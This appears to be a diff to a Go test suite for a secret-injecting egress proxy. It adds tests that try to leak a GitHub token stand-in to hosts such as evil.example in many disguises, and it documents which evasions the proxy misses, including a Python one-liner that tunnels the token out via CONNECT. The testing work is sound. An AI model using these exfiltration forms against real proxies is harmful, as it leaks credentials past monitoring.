@@ -130,7 +130,7 @@ func (o *origins) port(name string) string {
 // one and then TLS with the server name it chooses, verifying nothing, and
 // prints the answer. In the bytes, {S} is $GH_TOKEN's stand-in, {W}
 // $WILD_TOKEN's, {P} $PORT_TOKEN's, and the forms {S64} (base64), {SPCT}
-// (each byte percent-encoded), {SLOW}, {SUP}, {SA} and {SB} (its halves)
+// (each byte percent-encoded), {SPCT2} (twice), {SLOW}, {SUP}, {SA} and {SB} (its halves)
 // and {BASIC} (a Basic credential x:{S}) are the attacks' disguises.
 const attackPy = `
 import base64, os, socket, ssl, sys
@@ -138,6 +138,7 @@ S, W, P = (os.environ.get(n, '') for n in ('GH_TOKEN', 'WILD_TOKEN', 'PORT_TOKEN
 def fill(b):
     t = b.decode()
     for k, v in (('{S64}', base64.b64encode(S.encode()).decode()), ('{SPCT}', ''.join('%%%02X' % c for c in S.encode())),
+                 ('{SPCT2}', ''.join('%%25%02X' % c for c in S.encode())),
                  ('{SLOW}', S.lower()), ('{SUP}', S.upper()), ('{SA}', S[:len(S)//2]), ('{SB}', S[len(S)//2:]),
                  ('{BASIC}', base64.b64encode(('x:' + S).encode()).decode()), ('{S}', S), ('{W}', W), ('{P}', P)):
         t = t.replace(k, v)
@@ -447,5 +448,50 @@ func TestSecretEscapeRedirect(t *testing.T) {
 		if h.path == "/r13" {
 			assert.NotContains(t, h.dump, ghValue, "a trailer gets no value")
 		}
+	}
+}
+
+// TestSecretEscapeForms is the family of the stand-in's disguises in a
+// request to a host it is not for. Those the proxy sees are refused; those
+// it cannot (base64 outside a Basic credential, halves in two headers,
+// another case, double percent-encoding, a body, a trailer, an untouched
+// tunnel) send the stand-in, which is worth nothing there: the proxy puts
+// a value only in requests to its hosts. The origin never has the value.
+func TestSecretEscapeForms(t *testing.T) {
+	requireRootless(t)
+	o := startOrigins(t, attackPlain, attackTLS)
+	ep, etp := o.port("evil.example"), o.port("evil.test")
+	evil := "http://evil.example:" + ep
+	refused := []string{"403", "carries the stand-in of secret GH_TOKEN"}
+	sent := []string{"evil.example"}
+	rows := []attack{
+		{name: "Basic credential", cmd: plainAttack(httpReq("GET", evil+"/f1", "Authorization: Basic {BASIC}\r\n", "")), path: "/f1", want: refused},
+		{name: "Basic credential in a custom header", cmd: plainAttack(httpReq("GET", evil+"/f2", "X-Auth: Basic {BASIC}\r\n", "")), path: "/f2", want: refused},
+		{name: "URL userinfo", cmd: plainAttack(httpReq("GET", "http://x:{S}@evil.example:"+ep+"/f3", "", "")), path: "/f3", want: refused},
+		{name: "in the path, percent-encoded", cmd: plainAttack(httpReq("GET", evil+"/f4/{SPCT}", "", "")), path: "/f4/{S}", want: refused},
+		{name: "in the query, percent-encoded", cmd: plainAttack(httpReq("GET", evil+"/f5?t={SPCT}", "", "")), path: "/f5", want: refused},
+		{name: "in a header's name", cmd: plainAttack(httpReq("GET", evil+"/f6", "X-{S}: 1\r\n", "")), path: "/f6", want: refused},
+		{name: "in a cookie", cmd: plainAttack(httpReq("GET", evil+"/f7", "Cookie: t={S}\r\n", "")), path: "/f7", want: refused},
+		{name: "in the fragment of an absolute URL", cmd: plainAttack(httpReq("GET", evil+"/f8#{S}", "", "")), path: "/f8", notAt: sent},
+		// Limits: forms the proxy does not look for; only the stand-in goes.
+		{name: "limit: base64 in a custom header", cmd: plainAttack(httpReq("GET", evil+"/f9", "X-T: {S64}\r\n", "")), path: "/f9", reach: sent},
+		{name: "limit: halves in two headers", cmd: plainAttack(httpReq("GET", evil+"/f10", "X-A: {SA}\r\nX-B: {SB}\r\n", "")), path: "/f10", reach: sent},
+		{name: "limit: lower case", cmd: plainAttack(httpReq("GET", evil+"/f11", "X-T: {SLOW}\r\n", "")), path: "/f11", reach: sent},
+		{name: "limit: upper case", cmd: plainAttack(httpReq("GET", evil+"/f12", "X-T: {SUP}\r\n", "")), path: "/f12", reach: sent},
+		{name: "limit: double percent-encoding", cmd: plainAttack(httpReq("GET", evil+"/f13?t={SPCT2}", "", "")), path: "/f13", reach: sent},
+		{name: "limit: in the body", cmd: plainAttack(httpReq("POST", evil+"/f14", "", "t={S}")), path: "/f14", reach: sent},
+		{name: "limit: in a trailer", cmd: plainAttack("POST " + evil + "/f15 HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\nConnection: close\r\n\r\n1\r\nx\r\n0\r\nX-T: {S}\r\n\r\n"), path: "/f15", reach: sent},
+		{name: "limit: an untouched TLS tunnel", cmd: tunnelAttack("connect", "evil.test", etp, "evil.test", httpReq("GET", "/f16", "Host: evil.test\r\nAuthorization: Bearer {S}\r\n", "")), path: "/f16", want: []string{"issuer=origin"}, reach: []string{"evil.test"}},
+		{name: "limit: plain HTTP in a CONNECT tunnel", cmd: `python3 -c 'import os,socket
+c=socket.create_connection(("127.0.0.1",3128))
+c.sendall(b"CONNECT evil.example:` + ep + ` HTTP/1.1\r\n\r\n")
+print(c.recv(4096).decode())
+c.sendall(("GET /f17 HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer "+os.environ["GH_TOKEN"]+"\r\nConnection: close\r\n\r\n").encode())
+print(c.recv(65536).decode())'`, path: "/f17", reach: sent},
+	}
+	runAttacks(t, o, attackArgs(o), rows)
+	checkValuesWent(t, o, attackWhere)
+	for _, h := range o.seen() {
+		assert.NotContains(t, h.dump, ghValue, "%s: no value at %s", h.path, h.origin)
 	}
 }
